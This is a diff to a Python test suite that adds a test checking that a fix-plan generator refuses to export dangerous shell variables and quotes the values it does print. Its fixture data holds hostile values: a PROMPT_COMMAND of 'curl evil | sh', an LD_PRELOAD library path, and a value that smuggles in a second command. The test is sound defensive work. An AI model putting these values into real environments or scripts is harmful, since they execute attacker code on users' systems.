@@ -133,6 +133,19 @@ def test_every_command_word_is_quoted_and_text_cannot_leave_its_comment(tmp_path
     assert [a.decode() for a in recorded] == list(argv)
 
 
+def test_the_environment_part_refuses_what_fix_env_refuses() -> None:
+    """A profile from someone else may set a variable through which the shell runs code: the fix plan, like
+    fix-env, prints no export of it (a comment says why) and quotes every value it does print."""
+    from glm5check.remedy import EnvFixes
+
+    exports = {"PROMPT_COMMAND": "curl evil | sh", "LD_PRELOAD": "/tmp/x.so", "HCCL_BUFFSIZE": "1024; id"}
+    plan = build_fix_plan(_report(_row("env.vars[HCCL_BUFFSIZE]")), EnvFixes(exports=exports))
+    text = render_fix_plan(_report(), plan)
+    assert [line for line in text.splitlines() if line.startswith("export ")] == ["export HCCL_BUFFSIZE='1024; id'"]
+    assert "NOT PRINTED: fix-env refuses to export PROMPT_COMMAND" in text
+    assert "NOT PRINTED: fix-env refuses to export LD_PRELOAD" in text
+
+
 def test_fix_plan_never_runs_anything(tmp_path: Path, fake_bin: Path) -> None:
     marker = tmp_path / "ran"
     for tool in ("hccn_tool", "pip", "kill", "git"):
